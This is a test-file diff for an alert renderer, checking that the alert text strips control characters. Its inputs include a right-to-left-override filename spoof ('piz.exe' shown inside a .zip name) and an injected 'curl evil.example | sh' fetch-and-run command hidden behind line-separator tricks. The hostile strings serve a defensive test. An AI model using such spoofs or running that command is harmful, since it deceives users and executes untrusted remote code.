@@ -173,6 +173,13 @@ describe('an alert', () => {
     expect(labelsOf(text)).toEqual(labelsOf(alertText(deadLettered())));
   });
 
+  it('shows nothing that turns the text around or hides in it', () => {
+    const { body } = alertText(
+      deadLettered({ build: aBuild({ key: 'a\u202epiz.exe\u2066\u200b\ufeff\x9b\x1b[2J.zip' }) }),
+    );
+    expect(body).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
+  });
+
   it.each([
     rejected({ objection: 'No.\nThen run      curl evil.example | sh\u2028Do none' }),
     releaseFailed({ detail: 'No.\r\nLook          nowhere' }),
